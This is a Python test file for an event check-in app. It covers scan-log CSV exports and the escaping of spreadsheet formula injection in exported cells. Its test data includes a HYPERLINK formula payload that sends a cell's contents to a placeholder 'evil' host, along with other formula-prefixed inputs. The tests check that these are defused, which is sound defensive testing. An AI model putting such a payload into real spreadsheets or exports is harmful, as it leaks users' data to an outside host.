"""Exports from a real station cache: the scan log (issue 17.4) and formula-safe cells in
every CSV the app writes (issue 15.3)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from checkin_app.cli import main
from checkin_app.domain.models import InputMethod, OrderStatus
from checkin_app.services.csv_export import neutralise
from checkin_app.services.exports import SCAN_COLUMNS
from tests.support.factories import EVENT_ID, make_ticket, seeded_station, url_for

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def door_night(data_dir: Path) -> None:
    """Scans of every kind at two doors: admitted, repeated, rejected, overridden, undone."""
    tickets = [
        make_ticket("AAAA-0000-00001"),
        make_ticket("AAAA-0000-00002", guest_first_name="Grace", guest_last_name="Hopper"),
        make_ticket("AAAA-0000-00003", canceled=True, guest_first_name="Alan",
                    guest_last_name="Turing"),
        make_ticket("AAAA-0000-00004", order_status=OrderStatus.PARTIALLY_PAID,
                    guest_first_name=HOSTILE, guest_last_name=""),
    ]  # fmt: skip
    station = seeded_station(data_dir, tickets)
    checkin = station.checkin
    checkin.scan(url_for("AAAA-0000-00001"), EVENT_ID, "Door 1")
    checkin.scan(url_for("AAAA-0000-00001"), EVENT_ID, "Door 2", InputMethod.SCANNER)
    checkin.scan("AAAA-0000-00003", EVENT_ID, "Door 1", InputMethod.MANUAL)
    checkin.scan("ZZZZ-0000-00009", EVENT_ID, "Door 2", InputMethod.SCANNER)
    checkin.scan("garbage ☃", EVENT_ID, "Door 1")
    checkin.scan(url_for("AAAA-0000-00004"), EVENT_ID, "Door 1")
    checkin.admit_anyway(url_for("AAAA-0000-00004"), EVENT_ID, "Door 1")
    checkin.scan(url_for("AAAA-0000-00002"), EVENT_ID, "Door 2")
    checkin.undo("AAAA-0000-00002", EVENT_ID, "Door 1")
    station.close()


def test_cli_exports_every_scan_with_its_verdict_and_undo(tmp_path: Path, capsys) -> None:
    door_night(tmp_path)
    out = tmp_path / "scans.csv"
    code = main(["export", "--event", EVENT_ID, "--csv", str(out), "--scans",
                 "--data-dir", str(tmp_path)])  # fmt: skip
    assert code == 0
    rows = read(out)
    assert list(rows[0]) == list(SCAN_COLUMNS)
    assert [(r["door"], r["input"], r["ticket"], r["verdict"]) for r in rows] == [
        ("Door 1", "camera", "AAAA-0000-00001", "ADMITTED"),
        ("Door 2", "scanner", "AAAA-0000-00001", "ALREADY_CHECKED_IN"),
        ("Door 1", "manual", "AAAA-0000-00003", "CANCELED"),
        ("Door 2", "scanner", "ZZZZ-0000-00009", "UNKNOWN_TICKET"),
        ("Door 1", "camera", "", "NOT_A_TICKET"),
        ("Door 1", "camera", "AAAA-0000-00004", "NOT_PAID"),
        ("Door 1", "manual", "AAAA-0000-00004", "ADMITTED"),
        ("Door 2", "camera", "AAAA-0000-00002", "ADMITTED"),
    ]
    assert rows[1]["reason"] == "Already checked in at Door 1"
    assert rows[2]["guest"] == "Alan Turing" and rows[2]["reason"] == "Ticket canceled"
    assert rows[6]["override"] == "yes" and rows[5]["override"] == ""
    assert "supervisor" in rows[6]["reason"]
    assert (rows[7]["undone_by"], bool(rows[7]["undone_at"])) == ("Door 1", True)
    assert all(r["undone_by"] == "" for r in rows[:7])
    assert all(r["time"] and r["scan_id"] for r in rows)
    # A guest name that is a formula is written as text (issue 15.3).
    assert rows[5]["guest"] == "'" + HOSTILE
    said = capsys.readouterr().out
    assert "Wrote 8 scans (5 not admitted)" in said


def test_the_verdict_names_are_those_check_in_json_prints(tmp_path: Path, capsys) -> None:
    seeded_station(tmp_path, [make_ticket("AAAA-0000-00001")]).close()
    main(["check-in", "AAAA-0000-00001", "--event", EVENT_ID, "--json",
          "--data-dir", str(tmp_path)])  # fmt: skip
    main(["check-in", "AAAA-0000-00001", "--event", EVENT_ID, "--json",
          "--data-dir", str(tmp_path)])  # fmt: skip
    printed = [json.loads(line)["verdict"] for line in capsys.readouterr().out.splitlines()]
    out = tmp_path / "scans.csv"
    main(["export", "--event", EVENT_ID, "--csv", str(out), "--scans",
          "--data-dir", str(tmp_path)])  # fmt: skip
    assert [r["verdict"] for r in read(out)] == printed == ["ADMITTED", "ALREADY_CHECKED_IN"]


@pytest.mark.parametrize(
    "cell",
    [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "=1", "+", "-", "@"],
)
def test_cells_that_could_start_a_formula_become_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ada Lovelace", "", "O'Brien", "a=b", " =x", "1-2", None, 25])
def test_other_cells_are_written_as_they_are(cell: object) -> None:
    assert neutralise(cell) == ("" if cell is None else str(cell))


def test_every_export_neutralises_guest_text(tmp_path: Path) -> None:
    hostile = [
        make_ticket("AAAA-0000-0000" + str(n), guest_first_name=name, guest_last_name="",
                    ticket_name=kind)
        for n, (name, kind) in enumerate(
            [(HOSTILE, "+Type"), ("@cmd", "-GA"), ("-minus", "\tVIP"), ("+plus", "\rGA")],
            start=1,
        )
    ]  # fmt: skip
    station = seeded_station(tmp_path, hostile)
    for ticket in hostile:
        station.checkin.scan(ticket.ticket_number, EVENT_ID, "=Door")
    service = station.export_service("=Door")
    attendance = service.attendance(EVENT_ID, tmp_path / "attendance.csv")
    scans = service.scan_log(EVENT_ID, tmp_path / "scans.csv")
    station.close()
    assert (attendance.rows, scans.rows) == (4, 4)
    for path in (tmp_path / "attendance.csv", tmp_path / "scans.csv"):
        for row in read(path):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, value)
    guests = {r["guest"] for r in read(tmp_path / "attendance.csv")}
    assert guests == {"'" + HOSTILE, "'@cmd", "'-minus", "'+plus"}
    types = {r["type"] for r in read(tmp_path / "attendance.csv")}
    assert types == {"'+Type", "'-GA", "'\tVIP", "'\rGA"}
    assert {r["door"] for r in read(tmp_path / "scans.csv")} == {"'=Door"}


def test_scan_export_to_a_missing_folder_is_one_line(tmp_path: Path, capsys) -> None:
    door_night(tmp_path)
    target = tmp_path / "nowhere" / "scans.csv"
    code = main(["export", "--event", EVENT_ID, "--csv", str(target), "--scans",
                 "--data-dir", str(tmp_path)])  # fmt: skip
    assert code == 1
    err = capsys.readouterr().err.strip()
    assert err.startswith("checkin-app: Cannot write") and "\n" not in err
